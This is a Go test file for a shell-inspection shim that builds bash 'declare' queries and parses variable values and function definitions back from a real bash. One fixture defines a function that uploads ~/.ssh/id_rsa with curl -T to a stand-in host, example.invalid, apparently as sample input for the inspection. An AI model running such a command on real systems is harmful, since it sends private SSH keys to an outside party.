package shim

import (
	"maps"
	"os/exec"
	"strings"
	"testing"
)

func TestShellQuery(t *testing.T) {
	for _, tc := range []struct{ text, want string }{
		{"echo hi", "builtin declare -p -- HOME PATH IFS 2>/dev/null; builtin declare -f -- echo hi 2>/dev/null"},
		{`curl -T "$X" ${URL}/up`, "builtin declare -p -- HOME PATH IFS X URL 2>/dev/null; builtin declare -f -- curl X URL up 2>/dev/null"},
		{`f; f $1 $?`, "builtin declare -p -- HOME PATH IFS 2>/dev/null; builtin declare -f -- f 2>/dev/null"},
	} {
		if got := shellQuery(tc.text); got != tc.want {
			t.Errorf("shellQuery(%q) = %q, want %q", tc.text, got, tc.want)
		}
	}
}

// TestShellStateFromBash: what a real bash answers is read back as it
// holds it — quotes, newlines and dollars included, with declare's
// attributes; arrays and unset names are left out; functions come back
// whole.
func TestShellStateFromBash(t *testing.T) {
	script := `X=~/.ssh/id_rsa; Y='a "q" $b` + "\n" + `c'; declare -a A=(1 2); declare Z; export E=exp; declare -i I=3
f() { curl -T "$X" https://example.invalid; }
` + shellQuery(`f "$X" "$Y" "$A" "$Z" "$E" "$I" "$NOPE"`)
	out, _ := exec.Command("bash", "-c", script).Output() // declare -f fails for the names that are no function
	defs := funcDefs{}
	values := shellState(string(out), defs)
	delete(values, "HOME")
	delete(values, "PATH")
	if values["IFS"] != "= \t\n" {
		t.Errorf("IFS = %q", values["IFS"])
	}
	delete(values, "IFS")
	home, _ := exec.Command("bash", "-c", "echo -n ~").Output()
	want := map[string]string{"X": "=" + string(home) + "/.ssh/id_rsa", "Y": "=a \"q\" $b\nc", "E": "x=exp", "I": "i=3"}
	if !maps.Equal(values, want) {
		t.Errorf("values = %q, want %q (from %q)", values, want, out)
	}
	if !strings.Contains(defs["f"], "f() {") || !strings.Contains(defs["f"], `curl -T "$X"`) {
		t.Errorf("defs = %q", defs)
	}
}
